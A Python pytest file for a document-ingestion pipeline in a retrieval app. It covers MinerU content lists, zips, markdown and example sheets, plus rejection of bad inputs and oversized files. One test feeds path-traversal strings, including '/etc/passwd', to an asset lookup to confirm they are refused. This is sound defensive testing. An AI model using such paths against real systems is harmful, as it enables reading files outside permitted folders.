"""Ingestion of every input format, and rejection of every bad input with a clear message.

Formats: MinerU content lists (old and new schema, real outputs and the project's sample), a zip
of a MinerU folder, markdown, example sheets (.csv/.xlsx/.json). Bad inputs must be rejected as a
whole with a message naming the file and the problem, leaving the library untouched.
"""

from __future__ import annotations

import io
import json
import random
import time
import zipfile
from pathlib import Path

import pytest

from rag_app.index.library import Library
from rag_app.ingest import IngestError, chunk_document, doc_id_from_name, load_bytes, load_path
from rag_app.ingest.content_list import FURNITURE_TYPES
from rag_app.models import Chunk, Reason
from rag_app.stage_settings import InputLimits
from rag_app.text.tables import parse_table
from tests.conftest import SAMPLE_CONTENT_LIST, SAMPLE_DIR, SAMPLE_MD, SAMPLE_ZIP, TEST_DATA

BIG = 10**9  # a size limit that never applies


def _raw(path: Path) -> list[dict]:
    return json.loads(path.read_text(encoding="utf-8"))


def _load_one(path: Path):  # type: ignore[no-untyped-def]
    loaded = load_path(path, BIG)
    assert len(loaded) == 1
    return loaded[0]


def _assert_untouched(library: Library, kb: str = "default") -> None:
    assert library.documents(kb) == []
    assert library.chunks(kb) == []
    assert library.store.count(kb) == 0
    assert library.keyword_search(kb, "中芯 revenue 血压", 10) == []


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buf.getvalue()


TINY_LIST = json.dumps(
    [{"type": "text", "text": "中芯国际产能利用率回升", "page_idx": 0}], ensure_ascii=False
).encode("utf-8")


# -- document ids -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("x_content_list.json", "x"),
        ("smic_report_content_list.json", "smic_report"),
        ("demo1_content_list_v2.json", "demo1"),
        ("some/folder/y_content_list.json", "y"),
        ("report.md", "report"),
        ("examples.XLSX", "examples"),
        ("qa.csv", "qa"),
        ("bundle.zip", "bundle"),
        ("plain.json", "plain"),
    ],
)
def test_doc_id_rule(name: str, expected: str) -> None:
    assert doc_id_from_name(name) == expected


def test_library_uses_doc_id_rule(ingest_json, library: Library) -> None:
    report = ingest_json([{"type": "text", "text": "hello", "page_idx": 0}], "x_content_list.json")
    assert report.status == "ingested"
    assert report.doc_id == "x"
    assert [d.doc_id for d in library.documents("default")] == ["x"]
    assert all(c.chunk_id.startswith("x:") and c.doc_id == "x" for c in library.chunks("default"))


# -- content lists: old schema (demo1) ----------------------------------------------------------


def test_old_schema_demo1_items(mineru_fixtures: Path, counter) -> None:  # type: ignore[no-untyped-def]
    path = mineru_fixtures / "demo1_hydrology_paper_v0.10" / "demo1_content_list.json"
    raw = _raw(path)
    loaded = _load_one(path)
    doc = loaded.document
    assert (doc.doc_id, doc.source_format) == ("demo1", "content_list")
    # Items keep their position in the list as written, and their page.
    for item in doc.items:
        entry = raw[item.index]
        assert item.page == entry["page_idx"]
        if item.kind in ("text", "heading", "equation"):
            assert item.text == entry["text"].strip()
    empty = {i for i, e in enumerate(raw) if e["type"] == "text" and not e["text"].strip()}
    assert empty, "the fixture has empty text items"
    assert not empty & {item.index for item in doc.items}

    images = [item for item in doc.items if item.kind == "image"]
    assert len(images) == 5
    for item in images:
        entry = raw[item.index]
        assert item.caption == tuple(c.strip() for c in entry["img_caption"] if c.strip())
        assert item.image_path == entry["img_path"]
    tables = [item for item in doc.items if item.kind == "table"]
    assert len(tables) == 5
    assert all(item.table_body == "" for item in tables)


def test_old_schema_demo1_tables_without_body_keep_caption_and_footnote(
    mineru_fixtures: Path,
    counter,  # type: ignore[no-untyped-def]
) -> None:
    path = mineru_fixtures / "demo1_hydrology_paper_v0.10" / "demo1_content_list.json"
    raw = _raw(path)
    chunks = chunk_document(_load_one(path).document, counter)
    tables = [c for c in chunks if c.type == "table"]
    assert len(tables) == 5
    for chunk in tables:
        (index,) = [i for i in chunk.item_indices if raw[i]["type"] == "table"]
        entry = raw[index]
        caption = " ".join(c.strip() for c in entry["table_caption"] if c.strip())
        footnote = " ".join(f.strip() for f in entry["table_footnote"] if f.strip())
        assert chunk.caption == caption and caption in chunk.text and caption in chunk.search_text
        assert chunk.footnote == footnote and footnote in chunk.text
        assert chunk.n_rows == 0 and chunk.n_cols == 0 and chunk.table_html == ""
        assert chunk.pages == (entry["page_idx"],)
    fig1 = next(c for c in chunks if c.type == "image" and c.caption.startswith("Fig. 1."))
    assert raw[fig1.item_indices[-1]]["img_caption"][0].strip() == fig1.caption
    assert fig1.heading_path == ("1. Introduction",)


def test_old_schema_missing_images_still_ingest(mineru_fixtures: Path, library: Library) -> None:
    path = mineru_fixtures / "demo1_hydrology_paper_v0.10" / "demo1_content_list.json"
    (report,) = library.ingest_paths([path])
    assert report.status == "ingested", report.message
    images = [c for c in library.chunks("default", "demo1") if c.type == "image"]
    assert len(images) == 5
    # The images/ folder was not copied with the fixture: nothing to serve, and no error.
    assert all(library.asset_path("default", "demo1", c.image_path) is None for c in images)


# -- content lists: new schema (svolt, aaai26) --------------------------------------------------


def test_new_schema_svolt_furniture_bbox_and_image_caption(
    mineru_fixtures: Path,
    counter,  # type: ignore[no-untyped-def]
) -> None:
    path = mineru_fixtures / "svolt_battery_datasheet_zh_en" / "svolt_content_list.json"
    raw = _raw(path)
    doc = _load_one(path).document
    assert doc.doc_id == "svolt"
    discarded = {i for i, e in enumerate(raw) if e["type"] == "discarded"}
    assert len(discarded) == 22
    assert not discarded & {item.index for item in doc.items}
    chunks = chunk_document(doc, counter)
    used = {i for c in chunks for i in c.item_indices}
    assert not discarded & used
    page_marks = {raw[i]["text"] for i in discarded}  # "第 1 页 共 20 页" ...
    for chunk in chunks:
        for mark in page_marks:
            assert mark not in chunk.text and mark not in chunk.search_text
    # bbox is tolerated and ignored; page_idx kept
    assert all(item.page == raw[item.index]["page_idx"] for item in doc.items)
    (image,) = [item for item in doc.items if item.kind == "image"]
    assert image.image_path == raw[image.index]["img_path"] and image.caption == ()
    with_body = [i for i, e in enumerate(raw) if e["type"] == "table" and e.get("table_body")]
    without = [i for i, e in enumerate(raw) if e["type"] == "table" and not e.get("table_body")]
    assert len(with_body) == 12 and len(without) == 5
    seen = set()
    for chunk in (c for c in chunks if c.type == "table"):
        (index,) = [i for i in chunk.item_indices if raw[i]["type"] == "table"]
        seen.add(index)
        if index in with_body:  # the body's grid (a part of it, when the table was split)
            grid = parse_table(raw[index]["table_body"])
            assert chunk.n_cols == grid.n_cols and 0 < chunk.n_rows <= grid.n_rows
        else:
            assert chunk.n_rows == 0 and chunk.table_html == "" and chunk.text
    assert seen == set(with_body) | set(without)


def test_new_schema_aaai26_equations(mineru_fixtures: Path, counter) -> None:  # type: ignore[no-untyped-def]
    path = mineru_fixtures / "aaai26_paper_en" / "aaai26_content_list.json"
    raw = _raw(path)
    doc = _load_one(path).document
    equations = [item for item in doc.items if item.kind == "equation"]
    assert len(equations) == 12
    for item in equations:
        assert raw[item.index]["type"] == "equation"
        assert item.text == raw[item.index]["text"].strip() and item.text
    chunks = chunk_document(doc, counter)
    for item in equations:
        holders = [c for c in chunks if item.index in c.item_indices]
        assert len(holders) == 1 and holders[0].type == "text"
        assert item.text in holders[0].text
    tables = [c for c in chunks if c.type == "table"]
    assert {i for c in tables for i in c.item_indices if raw[i]["type"] == "table"} == {
        i for i, e in enumerate(raw) if e["type"] == "table"
    }
    assert all(c.n_rows > 0 and c.caption for c in tables)
    discarded = {i for i, e in enumerate(raw) if e["type"] == "discarded"}
    assert discarded and not discarded & {i for c in chunks for i in c.item_indices}


# -- content lists: the project's sample report -------------------------------------------------


def test_sample_report_page_furniture_never_in_any_chunk(counter) -> None:  # type: ignore[no-untyped-def]
    raw = _raw(SAMPLE_CONTENT_LIST)
    chunks = chunk_document(_load_one(SAMPLE_CONTENT_LIST).document, counter)
    furniture = {i for i, e in enumerate(raw) if e["type"] in FURNITURE_TYPES}
    assert len(furniture) == 21
    assert not furniture & {i for c in chunks for i in c.item_indices}
    for text in (
        "请务必阅读正文之后的免责条款部分",
        "中芯国际（688981.SH）深度研究报告",
        "证券研究报告·公司深度研究·半导体",
    ):
        for chunk in chunks:
            assert text not in chunk.text
            assert text not in chunk.search_text
            assert text not in chunk.context


def test_sample_report_chunks_point_at_their_items(counter) -> None:  # type: ignore[no-untyped-def]
    raw = _raw(SAMPLE_CONTENT_LIST)
    chunks = chunk_document(_load_one(SAMPLE_CONTENT_LIST).document, counter)
    for chunk in chunks:
        kinds = [raw[i]["type"] for i in chunk.item_indices]
        body = [i for i in chunk.item_indices if not raw[i].get("text_level")]
        if chunk.type == "text":
            for i in body:
                assert raw[i]["text"].strip() in chunk.text
        elif chunk.type == "table":
            assert kinds.count("table") == 1
            (index,) = [i for i in chunk.item_indices if raw[i]["type"] == "table"]
            assert chunk.caption == " ".join(raw[index]["table_caption"])
        elif chunk.type == "image":
            assert kinds.count("image") == 1
            (index,) = [i for i in chunk.item_indices if raw[i]["type"] == "image"]
            assert chunk.caption == " ".join(raw[index]["image_caption"])
            assert chunk.image_path == raw[index]["img_path"]
        for i in chunk.item_indices:
            if raw[i].get("text_level"):  # headings are on the chunk's heading path
                assert raw[i]["text"] in chunk.heading_path
    table6 = [c for c in chunks if c.caption == "表6：中芯国际产线一览"]
    assert table6 and all(55 in c.item_indices and c.pages == (4,) for c in table6)


def test_sample_report_heading_path_in_search_text(counter) -> None:  # type: ignore[no-untyped-def]
    chunks = chunk_document(_load_one(SAMPLE_CONTENT_LIST).document, counter)
    risk = next(c for c in chunks if "（1）下游需求复苏不及预期" in c.text)
    assert risk.heading_path[-1] == "6 风险提示"
    # the searched text carries the heading path (possibly after the document title)
    first_line = risk.search_text.split("\n", 1)[0]
    assert first_line.endswith(" > ".join(risk.heading_path))
    assert "6 风险提示" not in risk.text  # shown text is the body; the path is for search
    fig3 = next(c for c in chunks if c.caption.startswith("图3"))
    assert fig3.heading_path == (
        "4 先进制程：FinFET平台持续迭代，构筑长期壁垒",
        "4.1 特色工艺多点开花，车规与显示驱动成为新增长点",
    )
    assert "4.1 特色工艺多点开花" in fig3.search_text


def test_sample_report_images_caption_description_footnote(counter) -> None:  # type: ignore[no-untyped-def]
    raw = _raw(SAMPLE_CONTENT_LIST)
    chunks = {
        c.caption: c
        for c in chunk_document(_load_one(SAMPLE_CONTENT_LIST).document, counter)
        if c.type == "image"
    }
    assert set(chunks) == {
        "图1：中芯国际年度营业收入及增速",
        "图2：中芯国际季度毛利率与产能利用率",
        "图3：中芯国际季度营收及增速",
    }
    fig1 = chunks["图1：中芯国际年度营业收入及增速"]
    assert fig1.description == raw[24]["content"] and fig1.description in fig1.text
    assert (
        fig1.footnote == "数据来源：Wind，公司公告，示例证券研究所" and fig1.footnote in fig1.text
    )
    assert "2022年增速为六年内最高" in fig1.search_text
    fig2 = chunks["图2：中芯国际季度毛利率与产能利用率"]  # caption and footnote only
    assert fig2.description == "" and fig2.caption in fig2.text and fig2.footnote in fig2.text
    assert fig2.context.startswith("从经营指标看")


# -- zip of a MinerU folder ---------------------------------------------------------------------


def test_sample_zip_loads_like_the_content_list_with_images() -> None:
    (loaded,) = load_bytes(SAMPLE_ZIP.read_bytes(), SAMPLE_ZIP.name, BIG)
    plain = _load_one(SAMPLE_CONTENT_LIST).document
    doc = loaded.document
    assert (doc.doc_id, doc.source_format, doc.name) == ("smic_report", "zip", "smic_report.zip")
    assert doc.items == plain.items
    images = {f"images/{p.name}": p.read_bytes() for p in (SAMPLE_DIR / "images").glob("*.png")}
    assert len(images) == 3
    assert loaded.assets == images
    assert loaded.warnings == ()


def test_zip_ingest_keeps_images_retrievable(library: Library) -> None:
    (report,) = library.ingest_bytes([(SAMPLE_ZIP.name, SAMPLE_ZIP.read_bytes())])
    assert report.status == "ingested" and report.doc_id == "smic_report"
    (info,) = library.documents("default")
    assert info.source_format == "zip" and info.assets_dir
    images = [c for c in library.chunks("default") if c.type == "image"]
    assert len(images) == 3
    for chunk in images:
        path = library.asset_path("default", "smic_report", chunk.image_path)
        assert path is not None and path.is_file()
        assert path.read_bytes() == (SAMPLE_DIR / chunk.image_path).read_bytes()
    # never outside the document's folder
    assert library.asset_path("default", "smic_report", "../../catalogue.sqlite") is None
    assert library.asset_path("default", "smic_report", "/etc/passwd") is None
    assert library.asset_path("default", "smic_report", "") is None
    assert library.asset_path("default", "other_doc", images[0].image_path) is None


def test_zip_with_nested_mineru_folder_and_missing_image() -> None:
    items = [
        {"type": "text", "text": "Quarterly review", "text_level": 1, "page_idx": 0},
        {
            "type": "image",
            "img_path": "images/a.png",
            "image_caption": ["Figure 1: A"],
            "page_idx": 0,
        },
        {
            "type": "image",
            "img_path": "images/missing.png",
            "image_caption": ["Figure 2: B"],
            "page_idx": 0,
        },
    ]
    data = _zip(
        {
            "report/auto/report_content_list.json": json.dumps(items).encode(),
            "report/auto/report.md": b"# Quarterly review\n",
            "report/auto/images/a.png": b"\x89PNG fake",
            "__MACOSX/report/auto/._report_content_list.json": b"junk",
        }
    )
    (loaded,) = load_bytes(data, "upload.zip", BIG)
    assert loaded.document.doc_id == "report"
    assert loaded.assets == {"images/a.png": b"\x89PNG fake"}
    assert loaded.warnings == ("1 image(s) referenced but not in the archive",)


def test_zip_with_two_content_lists_gives_two_documents(library: Library) -> None:
    one = json.dumps([{"type": "text", "text": "alpha report body", "page_idx": 0}]).encode()
    two = json.dumps([{"type": "text", "text": "beta report body", "page_idx": 0}]).encode()
    data = _zip({"a/alpha_content_list.json": one, "b/beta_content_list.json": two})
    reports = library.ingest_bytes([("two.zip", data)])
    assert sorted((r.status, r.doc_id) for r in reports) == [
        ("ingested", "alpha"),
        ("ingested", "beta"),
    ]
    assert sorted(d.doc_id for d in library.documents("default")) == ["alpha", "beta"]


# -- markdown -----------------------------------------------------------------------------------


def test_sample_markdown_items() -> None:
    doc = _load_one(SAMPLE_MD).document
    assert (doc.doc_id, doc.source_format) == ("smic_report", "markdown")
    kinds = [item.kind for item in doc.items]
    assert kinds.count("heading") == 16 and kinds.count("table") == 8 and kinds.count("image") == 3
    assert [item.index for item in doc.items] == list(range(len(doc.items)))
    tables = [item for item in doc.items if item.kind == "table"]
    raw_tables = [e for e in _raw(SAMPLE_CONTENT_LIST) if e["type"] == "table"]
    # 基本数据 is a plain paragraph in the md, not a "表N" caption
    assert [t.caption for t in tables] == [
        tuple(e["table_caption"]) if e["table_caption"][0].startswith("表") else ()
        for e in raw_tables
    ]
    table6 = next(t for t in tables if t.caption == ("表6：中芯国际产线一览",))
    assert table6.footnote == ("数据来源：公司公告，公司官网，示例证券研究所整理",)
    images = [item for item in doc.items if item.kind == "image"]
    assert [i.image_path for i in images] == [
        e["img_path"] for e in _raw(SAMPLE_CONTENT_LIST) if e["type"] == "image"
    ]


def test_sample_markdown_figure_caption_and_source_note_are_split() -> None:
    """MinerU writes a figure as image line, caption line, source line (hard line breaks)."""
    images = [i for i in _load_one(SAMPLE_MD).document.items if i.kind == "image"]
    raw_images = [e for e in _raw(SAMPLE_CONTENT_LIST) if e["type"] == "image"]
    assert [(i.caption, i.footnote) for i in images] == [
        (tuple(e["image_caption"]), tuple(e["image_footnote"])) for e in raw_images
    ]


def test_markdown_captions_and_source_notes(counter) -> None:  # type: ignore[no-untyped-def]
    text = (
        "# 经营回顾\n\n公司营收稳步增长。\n\n表1：主要财务数据\n\n"
        "<table><tr><td>指标</td><td>2024A</td></tr><tr><td>营收</td><td>578.0</td></tr></table>\n\n"
        "数据来源：公司公告\n\n![](images/fig.png)\n\n图1：营收走势\n\n资料来源：Wind\n"
    )
    (loaded,) = load_bytes(text.encode("utf-8"), "review.md", BIG)
    items = loaded.document.items
    assert [i.kind for i in items] == ["heading", "text", "table", "image"]
    assert items[2].caption == ("表1：主要财务数据",) and items[2].footnote == (
        "数据来源：公司公告",
    )
    assert items[3].caption == ("图1：营收走势",) and items[3].footnote == ("资料来源：Wind",)
    chunks = chunk_document(loaded.document, counter)
    table = next(c for c in chunks if c.type == "table")
    assert table.context == "公司营收稳步增长。"
    assert "营收: 2024A 578.0" in table.text


def test_markdown_ingest_from_disk_brings_its_images(library: Library) -> None:
    (report,) = library.ingest_paths([SAMPLE_MD])
    assert report.status == "ingested" and report.doc_id == "smic_report"
    images = [c for c in library.chunks("default") if c.type == "image"]
    assert len(images) == 3
    for chunk in images:
        path = library.asset_path("default", "smic_report", chunk.image_path)
        assert (
            path is not None and path.read_bytes() == (SAMPLE_DIR / chunk.image_path).read_bytes()
        )


def test_content_list_ingest_from_disk_brings_its_images(library: Library) -> None:
    (report,) = library.ingest_paths([SAMPLE_CONTENT_LIST])
    assert report.status == "ingested"
    (info,) = library.documents("default")
    assert (info.source_format, info.pages, info.n_items) == ("content_list", 7, 64)
    images = [c for c in library.chunks("default") if c.type == "image"]
    assert len(images) == 3
    for chunk in images:  # copied from the images/ folder beside the content list
        path = library.asset_path("default", "smic_report", chunk.image_path)
        assert path is not None
        assert path.read_bytes() == (SAMPLE_DIR / chunk.image_path).read_bytes()


# -- example sheets (seed 003 shape) ------------------------------------------------------------


def _qa_chunks(library: Library, doc_id: str) -> list[Chunk]:
    chunks = library.chunks("default", doc_id)
    assert chunks and all(c.type == "qa" for c in chunks)
    return chunks


def test_csv_sheet_valid_rows_ingested_invalid_rows_reported(library: Library) -> None:
    (report,) = library.ingest_paths([TEST_DATA / "qa_examples.csv"])
    assert report.status == "ingested" and report.doc_id == "qa_examples"
    assert dict(report.type_counts) == {"qa": 3}
    assert len(report.warnings) == 2
    assert "row 3" in report.warnings[0] and "user_input and agent_response" in report.warnings[0]
    assert "row 5" in report.warnings[1] and "极好" in report.warnings[1]
    chunks = _qa_chunks(library, "qa_examples")
    first = chunks[0]
    assert first.text == (
        "问：血压140/90算高吗？\n答：收缩压≥140或舒张压≥90即属于血压偏高，建议复测并咨询医生。"
    )
    assert first.field("tags") == "健康咨询,高血压" and first.field("quality_grade") == "优秀"
    assert first.field("row") == "2"
    assert "血压140/90算高吗？" in first.search_text and "建议复测" in first.search_text
    # Chinese comma separated tags are split like ASCII ones
    assert chunks[1].field("tags") == "症状询问,安全边界场景"
    assert [c.field("quality_grade") for c in chunks] == ["优秀", "良好", "一般"]
    # notes are for curators only
    for chunk in chunks:
        assert "备注" not in chunk.text and "备注" not in chunk.search_text
        assert "不应导入" not in json.dumps(chunk.fields, ensure_ascii=False)
    hits = library.keyword_search("default", "头晕 乏力", 3)
    assert hits and hits[0][0].chunk_id == chunks[1].chunk_id


def test_json_sheet_in_seed_shape(library: Library) -> None:
    (report,) = library.ingest_paths([TEST_DATA / "qa_examples.json"])
    assert report.status == "ingested", report.message
    assert dict(report.type_counts) == {"qa": 4}
    joined = "\n".join(report.warnings)
    assert "qa_examples item 2" in joined and "query_examples item 2" in joined
    assert "很好" in joined and len(report.warnings) == 2
    chunks = _qa_chunks(library, "qa_examples")
    categories = [c.field("category") for c in chunks]
    assert categories == ["qa_examples", "record_examples", "query_examples", "greeting_examples"]
    assert chunks[0].field("tags") == "健康咨询,高血压,饮食"
    assert chunks[1].field("tags") == "blood_pressure,完整"
    assert chunks[0].heading_path == ("qa_examples",)


def test_xlsx_sheet_every_sheet_is_a_category(library: Library, tmp_path: Path) -> None:
    from openpyxl import Workbook

    book = Workbook()
    qa = book.active
    qa.title = "qa_examples"
    qa.append(["user_input", "agent_response", "tags", "quality_grade", "notes"])
    qa.append(
        [
            "血压高能运动吗？",
            "可以适度有氧运动，避免剧烈运动。",
            "健康咨询,运动",
            "优秀",
            "备注不导入",
        ]
    )
    qa.append([None, "缺少问题", "", "良好", ""])
    qa.append(["吃药后头晕", "请先坐下休息，持续不缓解及时就医。", "用药咨询", "差", ""])
    record = book.create_sheet("record_examples")
    record.append(["user_input", "agent_response", "tags", "quality_grade"])
    record.append(["记一下血压128/82", "已记录：收缩压128，舒张压82。", "blood_pressure", "良好"])
    path = tmp_path / "examples.xlsx"
    book.save(path)
    (report,) = library.ingest_paths([path])
    assert report.status == "ingested", report.message
    assert dict(report.type_counts) == {"qa": 2}
    assert report.warnings == (
        "rejected qa_examples row 3: user_input and agent_response are required",
        "rejected qa_examples row 4: quality_grade '差' is not one of 优秀/良好/一般",
    )
    chunks = _qa_chunks(library, "examples")
    assert [(c.field("category"), c.field("row")) for c in chunks] == [
        ("qa_examples", "2"),
        ("record_examples", "2"),
    ]


def test_sheet_with_only_invalid_rows_is_rejected(library: Library) -> None:
    data = (
        "user_input,agent_response,quality_grade\n,没有问题,优秀\n只有问题,,良好\n问题,回答,顶级\n"
    ).encode()
    (report,) = library.ingest_bytes([("bad_rows.csv", data)])
    assert report.status == "rejected"
    assert "no valid example rows" in report.message
    assert "row 2" in report.message and "row 3" in report.message and "row 4" in report.message
    _assert_untouched(library)


def test_sheet_without_required_columns_is_rejected(library: Library) -> None:
    (report,) = library.ingest_bytes([("qa.csv", "question,answer\n问,答\n".encode())])
    assert report.status == "rejected"
    assert "user_input" in report.message and "agent_response" in report.message
    _assert_untouched(library)


def test_csv_row_numbers_count_blank_lines_as_a_spreadsheet_does() -> None:
    # Line 3 is blank; a spreadsheet opening this CSV shows the bad grade on row 4.
    data = ("user_input,agent_response,quality_grade\n问一,答一,优秀\n\n问三,答三,极好\n").encode()
    (loaded,) = load_bytes(data, "blank_line.csv", BIG)
    assert loaded.warnings == (
        "rejected csv row 4: quality_grade '极好' is not one of 优秀/良好/一般",
    )


def test_gb18030_csv_sheet_is_accepted() -> None:
    data = "user_input,agent_response,tags\n血压多少算正常,低于120/80,健康咨询\n".encode("gb18030")
    (loaded,) = load_bytes(data, "gbk.csv", BIG)
    assert loaded.document.items[0].text == "血压多少算正常"


# -- bad inputs: rejected as a whole, with a clear message, nothing ingested --------------------

_RANDOM = random.Random(20250317).randbytes(8192)
_BAD_INPUTS = [
    (
        "malformed_content_list.json",
        b'[{"type": "text", "text": "unterminated"',
        ("malformed_content_list.json", "not valid JSON", "line 1"),
    ),
    (
        "object.json",
        b'{"title": "a report", "pages": 3}',
        ("object.json", "must be a JSON list of items", "dict"),
    ),
    (
        "wrong_types_content_list.json",
        json.dumps(
            [
                {"type": "text", "text": [1, 2, 3], "page_idx": 0},
                {"type": "text", "text": "ok", "page_idx": "x"},
                "just a string",
                {"text": "no type"},
                {"type": "table", "table_body": ["<table>"], "page_idx": 1},
            ]
        ).encode(),
        (
            "5 malformed item(s)",
            "item 0: 'text' should be text",
            "item 1: 'page_idx'",
            "item 2: should be an object",
            "item 3: has no 'type'",
            "item 4: 'table_body'",
        ),
    ),
    ("empty.json", b"", ("empty.json", "the file is empty")),
    ("blank.json", b" \n\t\r\n", ("blank.json", "the file is empty")),
    ("empty_list.json", b"[]", ("empty_list.json", "no items")),
    ("null.json", b"null", ("null.json", "must be a JSON list")),
    (
        "furniture_content_list.json",
        json.dumps(
            [
                {"type": "discarded", "text": "页眉", "page_idx": 0},
                {"type": "page_number", "text": "1", "page_idx": 0},
                {"type": "text", "text": "  ", "page_idx": 0},
            ]
        ).encode(),
        ("no content items",),
    ),
    ("random.json", _RANDOM, ("random.json", "not a text file in UTF-8 or GB18030")),
    ("random.md", _RANDOM, ("random.md", "not a text file in UTF-8 or GB18030")),
    ("random.csv", _RANDOM, ("random.csv", "UTF-8 or GB18030")),
    ("report.pdf", b"%PDF-1.7\n%binary", ("report.pdf", "unsupported file type", ".json")),
    ("notes.txt", "中芯国际".encode(), ("notes.txt", "unsupported file type")),
    ("noextension", b"[]", ("noextension", "unsupported file type")),
    ("not_a_zip.zip", b"PK\x03\x04 but not really a zip", ("not_a_zip.zip", "not a valid zip")),
    (
        "nothing_inside.zip",
        _zip({"readme.txt": b"hello"}),
        ("nothing_inside.zip", "no content_list.json or .md"),
    ),
    ("broken.xlsx", b"this is not a workbook", ("broken.xlsx", "cannot read the sheet")),
]


@pytest.mark.parametrize(
    ("name", "data", "fragments"), _BAD_INPUTS, ids=[case[0] for case in _BAD_INPUTS]
)
def test_bad_input_is_rejected_with_a_clear_message(
    name: str, data: bytes, fragments: tuple[str, ...]
) -> None:
    with pytest.raises(IngestError) as caught:
        load_bytes(data, name, BIG)
    message = str(caught.value)
    assert message.startswith(name)  # the message names the file
    for fragment in fragments:
        assert fragment in message
    # ... and gives its reason as a key and values, for the UI to word in its language
    assert caught.value.why is not None and caught.value.why.key, message


def test_bad_json_gives_its_position_and_problem_as_values() -> None:
    data = b'[{"type": "text",\n  "text": "unterminated]'
    with pytest.raises(IngestError) as caught:
        load_bytes(data, "bad_content_list.json", BIG)
    # the CLI's and the API's English is unchanged
    assert str(caught.value) == (
        "bad_content_list.json: not valid JSON (line 2, column 11: Unterminated string starting at)"
    )
    assert caught.value.why == Reason(
        "bad_json",
        (("line", "2"), ("column", "11"), ("problem", "Unterminated string starting at")),
    )
    report = caught.value.report("bad_content_list.json")
    assert (report.status, report.message, report.why) == (
        "rejected",
        str(caught.value),
        caught.value.why,
    )


def test_bad_inputs_leave_the_library_untouched(library: Library) -> None:
    reports = library.ingest_bytes([(name, data) for name, data, _ in _BAD_INPUTS])
    assert [(r.name, r.status) for r in reports] == [
        (name, "rejected") for name, _, _ in _BAD_INPUTS
    ]
    for report, (_, _, fragments) in zip(reports, _BAD_INPUTS, strict=True):
        assert all(fragment in report.message for fragment in fragments), report.message
        assert report.why is not None, report  # the reason's key reaches the UI
    _assert_untouched(library)
    assert library.catalogue.generation("default") == 0
    assert not (library.data_dir / "assets").exists()


def test_bad_file_does_not_stop_the_good_one_in_its_batch(library: Library) -> None:
    reports = library.ingest_bytes([("bad.json", b"{oops"), ("good_content_list.json", TINY_LIST)])
    assert [(r.name, r.status) for r in reports] == [
        ("bad.json", "rejected"),
        ("good_content_list.json", "ingested"),
    ]
    assert [d.doc_id for d in library.documents("default")] == ["good"]


def test_missing_path_and_folder_are_rejected(library: Library, tmp_path: Path) -> None:
    reports = library.ingest_paths([tmp_path / "nope_content_list.json", tmp_path])
    assert [r.status for r in reports] == ["rejected", "rejected"]
    assert "no such file" in reports[0].message and "folder" in reports[1].message
    _assert_untouched(library)


def test_unknown_item_type_keeps_its_text_with_a_warning(ingest_json, library: Library) -> None:
    report = ingest_json(
        [
            {"type": "text", "text": "正文段落", "page_idx": 0},
            {"type": "sidebar_note", "text": "侧栏提示：产能爬坡", "page_idx": 0},
            {"type": "sidebar_note", "page_idx": 0},
        ]
    )
    assert report.status == "ingested"
    assert report.warnings == ("2 item(s) of unknown type 'sidebar_note': text kept, rest skipped",)
    # the one with text is a paragraph like the one before it; the empty one is skipped
    assert [(c.text, c.item_indices) for c in library.chunks("default")] == [
        ("正文段落\n侧栏提示：产能爬坡", (0, 1))
    ]


def test_corrupt_zip_member_is_rejected_not_raised(library: Library) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("a_content_list.json", TINY_LIST)
    data = bytearray(buf.getvalue())
    data[30 + len("a_content_list.json") + 5] ^= 0x01  # one bit of the member's data: bad CRC
    (report,) = library.ingest_bytes([("corrupt.zip", bytes(data))])
    assert report.status == "rejected"
    assert report.message.startswith("corrupt.zip: cannot read 'a_content_list.json'")
    assert "CRC" in report.message  # the reason: the member does not match its checksum
    _assert_untouched(library)


def test_encrypted_zip_is_rejected_not_raised(library: Library) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("a_content_list.json", TINY_LIST)
    data = bytearray(buf.getvalue())
    data[6] |= 0x01  # "encrypted" flag, local header
    central = data.rfind(b"PK\x01\x02")
    data[central + 8] |= 0x01  # and central directory
    (report,) = library.ingest_bytes([("locked.zip", bytes(data))])
    assert report.status == "rejected"
    assert report.message.startswith("locked.zip: the archive is encrypted")
    _assert_untouched(library)


# -- size limits --------------------------------------------------------------------------------

_50_MB = 50 * 1024 * 1024


def _sparse_file(path: Path, size: int) -> Path:
    with open(path, "wb") as handle:
        handle.truncate(size)  # sparse on any sane file system: instant, no disk used
    return path


def test_file_over_configured_limit_is_rejected_before_reading(
    settings,
    counter,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,  # type: ignore[no-untyped-def]
) -> None:
    from rag_app.index.embedder import HashEmbedder

    library = Library(
        settings.with_(max_file_bytes=10 * 1024 * 1024), embedder=HashEmbedder(), counter=counter
    )
    big = _sparse_file(tmp_path / "big_content_list.json", _50_MB)

    def no_reading(self: Path) -> bytes:
        raise AssertionError(f"{self} was read although it is over the limit")

    monkeypatch.setattr(Path, "read_bytes", no_reading)
    start = time.perf_counter()
    (report,) = library.ingest_paths([big])
    monkeypatch.undo()
    assert time.perf_counter() - start < 5
    assert report.status == "rejected"
    assert "big_content_list.json" in report.message
    assert "52.4 MB" in report.message and "10 MB limit" in report.message
    assert "max_file_bytes" in report.message
    _assert_untouched(library)


def test_upload_over_configured_limit_is_rejected(settings, counter) -> None:  # type: ignore[no-untyped-def]
    from rag_app.index.embedder import HashEmbedder

    library = Library(
        settings.with_(max_file_bytes=1024 * 1024), embedder=HashEmbedder(), counter=counter
    )
    (report,) = library.ingest_bytes([("upload_content_list.json", b" " * (2 * 1024 * 1024))])
    assert report.status == "rejected"  # for its size: blank, it would be "empty" otherwise
    assert report.message.startswith("upload_content_list.json: 2.1 MB is over the 1 MB limit")
    _assert_untouched(library)


def test_default_limit_rejects_a_50_mb_file(library: Library, tmp_path: Path) -> None:
    """A 50 MB upload should be refused by the default limit, naming it (not parsed first)."""
    big = _sparse_file(tmp_path / "huge_content_list.json", _50_MB)
    start = time.perf_counter()
    (report,) = library.ingest_paths([big])
    assert time.perf_counter() - start < 10
    assert report.status == "rejected"
    assert report.message.startswith("huge_content_list.json: 52.4 MB is over the "), report.message
    assert "limit" in report.message and "max_file_bytes" in report.message, report.message


